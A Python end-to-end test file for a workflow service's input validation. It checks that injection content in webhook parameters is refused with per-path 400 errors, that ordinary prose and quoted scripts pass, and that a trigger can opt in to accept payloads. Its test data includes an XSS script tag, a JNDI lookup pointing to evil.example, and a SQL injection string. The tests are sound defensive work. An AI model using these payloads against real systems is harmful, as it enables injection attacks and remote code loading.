"""Suspicious content over HTTP (design §7.2): refused with a 400 per path by default, let
through for a trigger whose config allows it, ordinary text untouched."""

from __future__ import annotations

from collections.abc import Callable

import asyncpg
import httpx
import pytest

from worker.catalog import Catalog, apply_catalog

pytestmark = pytest.mark.e2e
Tokens = Callable[[str], dict[str, str]]
WEBHOOK = "/api/v1/workflows/wf_demo/triggers/trig_webhook_1/manual-invoke"
EMAIL = "/api/v1/workflows/wf_demo/triggers/trig_email_1/manual-invoke"


async def test_injections_are_refused_at_their_paths(
    http: httpx.AsyncClient, as_user: Tokens
) -> None:
    body = {
        "parameters": {
            "body": {"comment": "<script>alert(1)</script>", "note": "a plain note"},
            "headers": {"X-Lookup": "${jndi:ldap://evil.example/a}"},
            "query_params": {"q": "x' OR '1'='1"},
        }
    }
    response = await http.post(WEBHOOK, headers=as_user("demo-user"), json=body)
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"
    assert sorted((e["path"], e["code"]) for e in response.json()["errors"]) == [
        ("/parameters/body/comment", "suspicious_content"),
        ("/parameters/headers/X-Lookup", "suspicious_content"),
        ("/parameters/query_params/q", "suspicious_content"),
    ]


async def test_ordinary_text_and_html_email_bodies_pass(
    http: httpx.AsyncClient, as_user: Tokens
) -> None:
    email = {
        "from": "dev@example.com",
        "subject": "SELECT a plan; we'll drop by",
        "body": "The fix:\n\n    UPDATE orders SET status = 'shipped' WHERE id = 42;\n",
        "body_html": '<p onclick="track()">See <a href="https://example.com/">the fix</a></p>',
    }
    response = await http.post(
        EMAIL, headers=as_user("demo-user"), json={"parameters": email, "dry_run": True}
    )
    assert response.status_code == 200, response.text


@pytest.mark.parametrize(
    ("trigger", "parameters"),
    [
        (
            "trig_github_1",
            {
                "event_type": "push",
                "commits": [
                    {"id": "a" * 40, "message": "Order results by name; id"},
                    {"id": "b" * 40, "message": "Fix the 'legacy'--now unused--path"},
                ],
            },
        ),
        ("trig_slack_1", {"channel": "C0DEMO001", "text": "She said 'no'--and meant it"}),
        (
            "trig_email_1",
            {
                "from": "dev@example.com",
                "body": "; settings.ini\n[core]\nowner = ops\n\nOur script:\n\n"
                'OWNER=$(whoami)\nSTAMP="$(whoami)@$(hostname)"\n\n'
                "Then run cat /etc/passwd | less to see the accounts.",
            },
        ),
    ],
    ids=["commit messages", "slack prose", "email quoting a script"],
)
async def test_prose_dashes_semicolons_and_quoted_scripts_pass(
    http: httpx.AsyncClient, as_user: Tokens, trigger: str, parameters: dict[str, object]
) -> None:
    url = f"/api/v1/workflows/wf_demo/triggers/{trigger}/manual-invoke"
    response = await http.post(
        url, headers=as_user("demo-user"), json={"parameters": parameters, "dry_run": True}
    )
    assert response.status_code == 200, response.text


async def test_a_trigger_may_allow_suspicious_content(
    http: httpx.AsyncClient, as_user: Tokens, pool: asyncpg.Pool
) -> None:
    # Given a workflow whose webhook trigger tests a parser against injection payloads
    catalog = {
        "workflows": [
            {
                "id": "wf_waf_tests",
                "name": "Payload tests",
                "owner": "sec-owner",
                "members": {"demo-user": "operator"},
                "triggers": [
                    {
                        "id": "trig_payloads",
                        "type": "WEBHOOK",
                        "config": {"allow_suspicious_content": True},
                    }
                ],
            }
        ]
    }
    await apply_catalog(pool, Catalog.model_validate(catalog))
    url = "/api/v1/workflows/wf_waf_tests/triggers/trig_payloads/manual-invoke"
    payload = {"body": {"comment": "<script>alert(1)</script>"}}
    # When such a payload is sent to it, it is accepted and carried as sent
    response = await http.post(url, headers=as_user("demo-user"), json={"parameters": payload})
    assert response.status_code == 202, response.text
    resolved = response.json()["trigger_data"]["resolved_parameters"]
    assert resolved["body"] == payload["body"]
